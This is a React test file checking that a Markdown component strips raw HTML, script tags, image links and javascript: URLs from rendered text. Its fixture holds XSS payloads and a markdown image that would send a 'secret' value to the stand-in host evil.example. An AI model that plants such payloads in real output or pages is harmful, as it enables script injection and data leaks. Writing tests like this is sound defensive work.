import { render, screen } from "@testing-library/react";
import { expect, it } from "vitest";
import Markdown from "./Markdown";

it("lets no raw HTML, picture or script address through", () => {
  const { container } = render(
    <Markdown text={'Hi <img src=x onerror="alert(1)"> <script>alert(2)</script>\n\n![pixel](https://evil.example/p.png?q=secret) [x](javascript:alert(3))'} />,
  );
  expect(container.querySelector("img, script, iframe, a[href]")).toBeNull();
  expect(container.textContent).toContain("https://evil.example/p.png?q=secret");
  expect(container.innerHTML).not.toContain("javascript:");
});

it("renders what a model writes", () => {
  render(<Markdown text={"**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"} />);
  expect(screen.getByText("bold").tagName).toBe("STRONG");
  expect(screen.getByRole("table")).toBeDefined();
});
